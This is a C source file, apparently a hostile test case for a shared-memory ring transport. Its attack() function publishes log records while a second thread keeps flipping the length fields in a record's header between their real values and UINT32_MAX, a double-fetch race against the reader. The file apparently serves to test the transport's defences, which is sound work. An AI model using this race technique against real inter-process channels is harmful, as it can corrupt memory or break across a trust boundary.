/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Writes a record whose head is another one each time that it is looked at. */
#include "hostile.h"

#include <errno.h>
#include <pthread.h>
#include <string.h>
#include <unistd.h>
#include "transport/flat.h"
#include "transport/pair.h"

static struct qk_pair pair;

/* The lengths in the record's head, true, false, true, ... */
static void *flicker(void *arg)
{
    volatile uint32_t *words = arg;
    uint32_t before[32];
    for (int i = 0; i < 32; i++)
        before[i] = words[i];
    for (;;) {
        for (int i = 0; i < 32; i++)
            words[i] = UINT32_MAX;
        for (int i = 0; i < 32; i++)
            words[i] = before[i];
    }
    return NULL;
}

int attack(struct qk_turn *t)
{
    (void)t;
    pthread_t thread;
    struct qk_flat flat;
    memset(&flat, 0, sizeof(flat));
    flat.kind = QK_PORT_LOG;
    struct qk_ring_piece piece = {&flat, sizeof(flat)};
    if (qk_pair_attach(dup(QK_PAIR_MEMORY_FD), dup(QK_PAIR_BELL_FD), &pair) < 0)
        return -EBADF;
    uint64_t tail = atomic_load(&pair.out_shared->tail);
    pair.out.tail = tail;
    volatile void *record = &pair.out_shared->bytes[tail & (pair.ring_bytes - 1)];
    for (int i = 0; i < 100; i++)
        (void)qk_ring_put(&pair.out, 0, &piece, 1);
    if (pthread_create(&thread, NULL, flicker, (void *)record) != 0)
        return -EAGAIN;
    (void)qk_ring_publish(&pair.out);
    qk_pair_wake(&pair);
    pthread_join(thread, NULL);
    return 0;
}
